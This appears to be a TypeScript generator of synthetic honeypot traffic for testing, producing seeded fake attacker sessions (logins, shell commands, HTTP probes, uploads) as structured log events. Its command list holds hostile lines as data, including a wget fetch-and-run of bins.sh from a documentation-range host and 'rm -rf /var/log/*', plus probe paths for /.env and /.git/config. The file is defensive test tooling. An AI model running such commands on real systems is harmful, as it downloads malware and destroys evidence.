import { seeded } from '#codec/testing.ts'
import { actions } from '#events/actions.ts'
import type { Event } from '#events/event.ts'
import type { Entry } from './columns.ts'
import type { Place } from './store.ts'

/** What the invented attackers are like. Times in ms. */
export type TrafficOptions = { seed?: number; start?: number; sources?: number; perHour?: number; underWay?: number }

type Step = [action: keyof typeof actions, details: object]
type Talk = {
  session: string
  service: string
  source: number
  port: number
  sourcePort: number
  steps: Step[]
  at: number
}

const users = [
  'root',
  'admin',
  'user',
  'test',
  'oracle',
  'ubuntu',
  'postgres',
  'pi',
  'ftpuser',
  'anonymous',
  'git',
  'support',
]
const commands = [
  'uname -a',
  'cat /proc/cpuinfo | grep name | wc -l',
  'cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh',
  'echo -e "\\x6F\\x6B"',
  'rm -rf /var/log/*',
  'free -m',
]
const urls = [
  '/',
  '/robots.txt',
  '/.env',
  '/wp-login.php',
  '/cgi-bin/luci/;stok=/locale',
  '/boaform/admin/formLogin',
  '/.git/config',
]
const agents = [
  'Mozilla/5.0 (X11; Linux x86_64)',
  'curl/8.5.0',
  'Go-http-client/1.1',
  'python-requests/2.32.3',
  'zgrab/0.x',
  'masscan/1.3',
]
const towns: Place[] = [
  { country: 'CN', city: 'Beijing', lat: 39.9042, lon: 116.4074 },
  { country: 'US', city: 'Ashburn', lat: 39.0438, lon: -77.4874 },
  { country: 'NL', city: 'Amsterdam', lat: 52.3676, lon: 4.9041 },
  { country: 'JP', city: 'Tokyo', lat: 35.6895, lon: 139.6917 },
  { country: 'BR', city: 'São Paulo', lat: -23.5505, lon: -46.6333 },
  { country: 'IN', city: 'Mumbai', lat: 19.076, lon: 72.8777 },
  { country: 'RU', city: 'Moscow', lat: 55.7558, lon: 37.6173 },
  { country: 'DE', lat: 51.1657, lon: 10.4515 },
]

/** Address and place of the `n`th attacker, in documentation and benchmarking ranges; every ninth is of unknown origin, some speak IPv6. */
export function attacker(n: number): { ip: string; place: Place } {
  const ip =
    n % 11 === 10 ? `2001:db8::${(n + 1).toString(16)}` : `198.${18 + ((n >> 16) & 1)}.${(n >> 8) & 255}.${n & 255}`
  if (n % 9 === 8) return { ip, place: {} }
  const asn = 64_496 + (n % 40)
  const scanner = n % 13 === 5 ? { scanner: 'Example Census' } : {}
  return { ip, place: { ...towns[(n * 7) % towns.length], asn, network: `Example Network ${asn}`, ...scanner } }
}

/** An endless stream of events in order of time: many at once, few busy sources and many quiet ones, worn-out passwords. */
export function* traffic(options: TrafficOptions = {}): Generator<Entry> {
  const { seed = 1, start = Date.UTC(2026, 0, 1), sources = 500, perHour = 2000, underWay = 30 } = options
  const draw = seeded(seed)
  const below = (n: number, skew = 1) => Math.floor(n * draw() ** skew)
  const pick = <T>(list: readonly T[], skew = 2) => list[below(list.length, skew)]!
  const hex = (digits: number) => Array.from({ length: digits }, () => below(16).toString(16)).join('')

  let now = start
  let ids = 0
  const identify = () => {
    const ms = Math.floor(now).toString(16).padStart(12, '0')
    const n = (ids++ % 0x1000000).toString(16).padStart(6, '0')
    return `${ms.slice(0, 8)}-${ms.slice(8)}-7${n.slice(0, 3)}-8${n.slice(3)}-${hex(4)}${seed.toString(16).padStart(8, '0').slice(-8)}`
  }
  const sample = () => {
    const sha256 = below(40, 2).toString(16).padStart(64, 'a')
    return { sha256, sha1: sha256.slice(24), md5: sha256.slice(32), size: 1234, kept: 1234 }
  }
  const logins = (count: number): Step[] =>
    Array.from({ length: count }, () => [
      'login',
      {
        method: 'password',
        user: pick(users, 3),
        password: `pass${below(20_000, 4)}`,
        outcome: draw() < 0.02 ? 'success' : 'failure',
      },
    ])
  const typed = (count: number): Step[] =>
    Array.from({ length: count }, () => ['command', { line: pick(commands), verb: 'sh' }])
  const scripts: [service: string, port: number, steps: () => Step[]][] = [
    [
      'ssh',
      22,
      () => [
        ['sshHello', { version: 'SSH-2.0-Go', hassh: hex(1).repeat(32) }],
        ...logins(1 + below(6)),
        ...typed(below(4, 6)),
      ],
    ],
    ['telnet', 23, () => [...logins(1 + below(8)), ...typed(below(5, 4))]],
    [
      'http',
      80,
      () =>
        Array.from({ length: 1 + below(4, 2) }, (): Step => {
          const path = pick(urls)
          return [
            'request',
            {
              method: 'GET',
              url: { original: path, path },
              version: '1.1',
              headers: [
                ['Host', '192.0.2.1'],
                ['X-Probe', hex(4)],
              ],
              userAgent: pick(agents),
              bodyBytes: 0,
              status: 404,
              responseBytes: 153,
            },
          ]
        }),
    ],
    [
      'ftp',
      21,
      () => [
        ...logins(1 + below(3)),
        ...(draw() < 0.1 ? [['fileUpload', { path: '/pub/x.bin', sample: sample() }] as Step] : []),
      ],
    ],
    [
      'redis',
      6379,
      () => [
        ...typed(2),
        ['exploit', { id: 'CVE-2022-0543', name: 'Lua sandbox escape', evidence: 'package.loadlib' }],
      ],
    ],
    ['catch-all', 0, () => [['payload', { sample: sample(), start: 'GET / HTTP/1.0\\x0d\\x0a' }]]],
  ]
  const begin = (): Talk => {
    const source = below(sources, 4)
    const [service, port, steps] = scripts[(source + below(2, 5)) % scripts.length]!
    const end: Step = [
      'connectionClosed',
      { reason: pick(['eof', 'idle', 'reset']), milliseconds: below(60_000), received: below(5000), sent: below(9000) },
    ]
    return {
      session: identify(),
      service,
      source,
      port: port || 1 + below(65_000, 2),
      sourcePort: 1024 + below(60_000),
      at: 0,
      steps: [['connectionOpened', {}], ...steps(), end],
    }
  }
  const talks = Array.from({ length: underWay }, begin)
  for (;;) {
    now += (3_600_000 / perHour) * 2 * draw()
    const n = below(underWay)
    const talk = talks[n]!
    yield entry(talk, now, identify())
    if (talk.at === talk.steps.length) talks[n] = begin()
  }
}

function entry(talk: Talk, now: number, id: string): Entry {
  const [name, details] = talk.steps[talk.at]!
  const action = actions[name]
  const { ip, place } = attacker(talk.source)
  const extra = action.fields(details as never) as Record<string, object>
  const event: Record<string, unknown> = {
    '@timestamp': new Date(Math.floor(now)).toISOString(),
    event: {
      id,
      kind: action.kind,
      action: action.name,
      category: action.category,
      type: action.type,
      dataset: `skep.${talk.service}`,
      sequence: talk.at++,
    },
    observer: { name: 'sensor-1', product: 'skep', type: 'honeypot' },
    source: { ip, port: talk.sourcePort },
    destination: { ip: '192.0.2.1', port: talk.port },
    network: { transport: 'tcp', type: ip.includes(':') ? 'ipv6' : 'ipv4' },
    skep: { session: talk.session, service: talk.service },
  }
  for (const key in extra) event[key] = { ...(event[key] as object | undefined), ...extra[key] }
  return { event: event as Event, json: JSON.stringify(event), place }
}

/** The next `n` of a stream. */
export function take<T>(stream: Iterator<T>, n: number): T[] {
  return Array.from({ length: n }, () => stream.next().value as T)
}
